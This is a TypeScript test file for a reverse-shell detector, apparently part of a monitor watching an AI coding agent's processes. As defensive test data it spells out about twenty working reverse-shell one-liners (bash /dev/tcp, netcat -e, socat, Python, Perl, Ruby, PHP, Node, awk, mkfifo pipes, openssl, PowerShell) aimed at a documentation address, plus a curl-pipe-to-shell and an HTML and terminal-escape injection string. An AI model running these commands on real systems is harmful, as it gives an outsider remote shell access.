import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { DEFAULT_THRESHOLDS, DetectorContext, reverseShellDetector } from '../../../helper/guard/monitor/detectors';
import { matchOneLiner } from '../../../helper/guard/monitor/detectors/reverse-shell';
import { agent, fileFd, init, pipeFd, proc, snap, sock, sockFd, tty, unixFd } from './build';

let n = 0;
const ctx = (over: Partial<DetectorContext> = {}): DetectorContext => ({ thresholds: DEFAULT_THRESHOLDS, newId: () => `e${++n}`, ...over });
const run = (processes: Parameters<typeof snap>[0], c = ctx()) => reverseShellDetector.evaluate(snap(processes), undefined, c);

test('a shell whose stdio is a connected TCP socket is CRITICAL, with remote, fds and lineage', () => {
  const s = sock('198.51.100.2', 4444);
  const bash = proc(300, 200, ['bash', '-c', 'exec sh -i <&3 >&3 2>&3'], { comm: 'bash', fds: [sockFd(3, s)] });
  const sh = proc(301, 300, ['sh', '-i'], { fds: [0, 1, 2].map((fd) => sockFd(fd, s)) });
  const events = run([init, agent(), bash, sh]);
  const e = events.find((x) => x.evidence.process?.pid === 301);
  assert.ok(e);
  assert.equal(e.level, 'critical');
  assert.equal(e.category, 'reverse_shell');
  assert.equal(e.evidence.rule, 'reverse-shell/shell-stdio-network');
  assert.deepEqual(e.evidence.network, { proto: 'tcp', remote: '198.51.100.2', port: 4444, local: `10.10.0.5:${s.local.port}`, state: 'ESTABLISHED', fds: [0, 1, 2] });
  assert.deepEqual(e.evidence.process?.lineage.map((l) => l.pid), [301, 300, 200, 100]);
  assert.match(e.description, /198\.51\.100\.2:4444/);
  assert.match(e.description, /sh\[301\] ← bash\[300\] ← claude\[200\] ← systemd\[100\]/);
  assert.deepEqual(e.mitre, reverseShellDetector.mitre);
  assert.equal(e.detector, 'reverse-shell');
  assert.equal(e.time, new Date(1_740_000_000_000).toISOString());
});

test('a renamed copy of sh is caught by what it does: stdin and stdout on a network socket', () => {
  const s = sock('198.51.100.2', 8443);
  const p = proc(310, 200, ['/tmp/update-check'], { comm: 'update-check', exe: '/tmp/update-check', fds: [0, 1, 2].map((fd) => sockFd(fd, s)) });
  const [e] = run([init, agent(), p]);
  assert.equal(e?.level, 'critical');
  assert.equal(e?.evidence.rule, 'reverse-shell/stdio-redirected-network');
  assert.equal(e?.evidence.process?.exe, '/tmp/update-check');
});

test('python dup2 reverse shell: an interpreter with stdio on a socket (IPv6, UDP too)', () => {
  const s = sock('2001:db8::7', 53, { proto: 'udp' });
  const p = proc(320, 200, ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("x",1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'], { comm: 'python3', fds: [0, 1, 2].map((fd) => sockFd(fd, s)) });
  const events = run([init, p]);
  assert.equal(events.length, 1, 'one event per process: behaviour wins over the one-liner');
  assert.equal(events[0]?.evidence.rule, 'reverse-shell/shell-stdio-network');
  assert.equal(events[0]?.evidence.network?.proto, 'udp');
  assert.equal(events[0]?.evidence.network?.remote, '2001:db8::7');
});

test('a socket handed down by a shell to any program is CRITICAL (inherited-network-stdio)', () => {
  const s = sock('198.51.100.2', 443);
  const bash = proc(330, 200, ['bash', 'x.sh'], { fds: [...tty(), sockFd(3, s)] });
  const prog = proc(331, 330, ['./agent-helper'], { comm: 'agent-helper', fds: [sockFd(0, s), fileFd(1, '/dev/pts/0'), fileFd(2, '/dev/pts/0')] });
  const e = run([init, agent(), bash, prog]).find((x) => x.evidence.process?.pid === 331);
  assert.equal(e?.level, 'critical');
  assert.equal(e?.evidence.rule, 'reverse-shell/inherited-network-stdio');
});

test('mkfifo/nc pipes: a shell fed from and feeding a network relay is CRITICAL without any socket on its own stdio', () => {
  const s = sock('198.51.100.2', 4444);
  const parent = proc(340, 200, ['sh', '-c', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.2 4444 > /tmp/f'], { fds: tty() });
  const cat = proc(341, 340, ['cat', '/tmp/f'], { fds: [fileFd(0, '/dev/pts/0'), pipeFd(1, 7001), fileFd(2, '/dev/pts/0'), fileFd(3, '/tmp/f')] });
  const sh = proc(342, 340, ['sh', '-i'], { fds: [pipeFd(0, 7001), pipeFd(1, 7002), pipeFd(2, 7002)] });
  const nc = proc(343, 340, ['nc', '198.51.100.2', '4444'], { fds: [pipeFd(0, 7002), fileFd(1, '/tmp/f'), fileFd(2, '/dev/pts/0'), sockFd(3, s)] });
  // cat reads the fifo nc writes: link them by the fifo path on cat's stdin.
  cat.fds[0] = fileFd(0, '/tmp/f');
  const events = run([init, agent(), parent, cat, sh, nc]);
  const e = events.find((x) => x.evidence.process?.pid === 342);
  assert.equal(e?.level, 'critical');
  assert.equal(e?.evidence.rule, 'reverse-shell/shell-piped-to-network');
  assert.equal(e?.evidence.network?.port, 4444);
  assert.ok(events.some((x) => x.evidence.rule === 'reverse-shell/one-liner/mkfifo-pipe' && x.evidence.process?.pid === 340), 'and the parent command line matches the mkfifo family');
});

test('curl | sh (input only from the network) is not a reverse shell', () => {
  const s = sock('198.51.100.2', 443);
  const curl = proc(350, 349, ['curl', '-fsSL', 'https://example.invalid/install.sh'], { fds: [fileFd(0, '/dev/null'), pipeFd(1, 8001), fileFd(2, '/dev/pts/0'), sockFd(5, s)] });
  const sh = proc(351, 349, ['sh'], { fds: [pipeFd(0, 8001), fileFd(1, '/dev/pts/0'), fileFd(2, '/dev/pts/0')] });
  const bash = proc(349, 200, ['bash', '-c', 'curl -fsSL https://example.invalid/install.sh | sh'], { fds: tty() });
  assert.deepEqual(run([init, agent(), bash, curl, sh]), []);
});

test('a non-shell with only stdin on a socket is a WARNING, not a kill', () => {
  const s = sock('198.51.100.2', 80);
  const cat = proc(360, 200, ['cat'], { fds: [sockFd(0, s), fileFd(1, '/work/out'), fileFd(2, '/dev/pts/0')] });
  const [e] = run([init, agent(), cat]);
  assert.equal(e?.level, 'warning');
  assert.equal(e?.evidence.rule, 'reverse-shell/stdio-network');
});

test('unix socketpairs on stdio (node child processes, test runners) and listening sockets are not network', () => {
  const sh = proc(370, 200, ['sh', '-c', 'npm test'], { fds: [unixFd(0, 9001), unixFd(1, 9002), unixFd(2, 9003)] });
  const listener = sock('0.0.0.0', 0, { state: 'LISTEN', localPort: 3000 });
  const srv = proc(371, 200, ['node', 'server.js'], { fds: [sockFd(0, listener), ...tty().slice(1)] });
  const loopbackTime = sock('127.0.0.1', 5432, { state: 'TIME_WAIT' });
  const psql = proc(372, 200, ['bash'], { fds: [sockFd(0, loopbackTime), ...tty().slice(1)] });
  assert.deepEqual(run([init, agent(), sh, srv, psql]), []);
});

test('one-liner families match with a network indicator; benign look-alikes do not', () => {
  const p = (argv: string[]) => proc(400, 200, argv);
  const positives: Array<[string[], string]> = [
    [['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1'], 'dev-tcp'],
    [['bash', '-c', 'exec 5<>/dev/udp/198.51.100.2/53; cat <&5'], 'dev-tcp'],
    [['nc', '-e', '/bin/sh', '198.51.100.2', '4444'], 'netcat-exec'],
    [['nc.traditional', '-lvnpe', '/bin/bash'], 'netcat-exec'],
    [['ncat', '--sh-exec', 'sh', '198.51.100.2', '4444'], 'netcat-exec'],
    [['sh', '-c', 'nc 198.51.100.2 4444 -e /bin/sh'], 'netcat-exec'],
    [['socat', 'TCP:198.51.100.2:4444', 'EXEC:/bin/sh,pty,stderr'], 'socat-exec'],
    [['socat', 'tcp-connect:198.51.100.2:4444', 'system:bash'], 'socat-exec'],
    [['python3', '-c', 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.2",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'], 'python-socket'],
    [['perl', '-e', 'use Socket;$i="198.51.100.2";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'], 'perl-socket'],
    [['perl', '-MIO', '-e', '$c=new IO::Socket::INET(PeerAddr,"198.51.100.2:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'], 'perl-socket'],
    [['ruby', '-rsocket', '-e', 'f=TCPSocket.open("198.51.100.2",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'], 'ruby-socket'],
    [['php', '-r', '$sock=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");'], 'php-socket'],
    [['node', '-e', 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"198.51.100.2",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'], 'node-socket'],
    [['awk', 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"; while(1){s |& getline c; print c |& s}}'], 'awk-inet'],
    [['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.2 4444 >/tmp/f'], 'mkfifo-pipe'],
    [['sh', '-c', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.2:4444 > /tmp/s'], 'mkfifo-pipe'],
    [['sh', '-c', 'openssl s_client -quiet -connect 198.51.100.2:4444 | /bin/bash'], 'tls-telnet-pipe'],
    [['pwsh', '-c', '$client = New-Object System.Net.Sockets.TCPClient("198.51.100.2",4444)'], 'powershell-socket'],
  ];
  for (const [argv, rule] of positives) assert.equal(matchOneLiner(p(argv))?.rule, rule, argv.join(' '));
  const negatives = [
    ['bash', '-i'],
    ['sh', '-i'],
    ['grep', '-rn', '/dev/tcp/', 'helper/'],
    ['rg', 'nc -e', 'docs/'],
    ['nc', '-z', '127.0.0.1', '5432'],
    ['socat', '-V'],
    ['socat', 'TCP-LISTEN:8080,fork', 'TCP:127.0.0.1:3000'],
    ['python3', '-c', 'import socket; print(socket.gethostname())'],
    ['node', '-e', 'require("net").createServer().listen(0)'],
    ['perl', '-e', 'print "hello\\n"'],
    ['env', 'node', 'script.js'],
    ['sh', '-c', 'mkfifo /tmp/progress && cat /tmp/progress'],
    ['git', 'commit', '-m', 'detect nc -e and /dev/tcp/1.2.3.4/80 reverse shells'],
  ];
  for (const argv of negatives) assert.equal(matchOneLiner(p(argv)), undefined, argv.join(' '));
});

test('reverse_shell_one_liners sets the level of the pattern layer: critical, warn or off', () => {
  const p = proc(410, 200, ['nc', '-e', '/bin/sh', '198.51.100.2', '4444']);
  const at = (mode: 'critical' | 'warn' | 'off') => run([init, agent(), p], ctx({ thresholds: { ...DEFAULT_THRESHOLDS, reverseShellOneLiners: mode } }));
  assert.equal(at('critical')[0]?.level, 'critical');
  assert.equal(at('critical')[0]?.evidence.rule, 'reverse-shell/one-liner/netcat-exec');
  assert.equal(at('warn')[0]?.level, 'warning');
  assert.deepEqual(at('off'), []);
});

test('hostile strings pass through evidence as data; descriptions show escapes, titles stay fixed', () => {
  const s = sock('198.51.100.2', 4444);
  const evil = '<img src=x onerror=alert(1)>\x1b[31m\x1b]0;owned\x07\u202e';
  const p = proc(420, 200, [evil, '-i'], { comm: '\x1b[2Jsh', exe: '/bin/sh', fds: [0, 1, 2].map((fd) => sockFd(fd, s)) });
  const [e] = run([init, agent(), p]);
  assert.ok(e);
  assert.equal(e.evidence.process?.argv[0], evil, 'evidence keeps the exact string');
  assert.equal(e.evidence.process?.comm, '\x1b[2Jsh');
  assert.ok(!/[\x00-\x1f\x7f\u202e]/.test(e.description), 'no control or bidi characters reach the description');
  assert.ok(e.description.includes('\\x1b[31m'), 'escapes are shown, not interpreted');
  assert.ok(e.description.includes('<img src=x onerror=alert(1)>'), 'HTML is left to the renderer to escape');
  assert.equal(e.title, 'Reverse shell: standard streams connected to the network');
  const json = JSON.parse(JSON.stringify(e)) as typeof e;
  assert.equal(json.evidence.process?.argv[0], evil, 'survives JSON round trip');
});
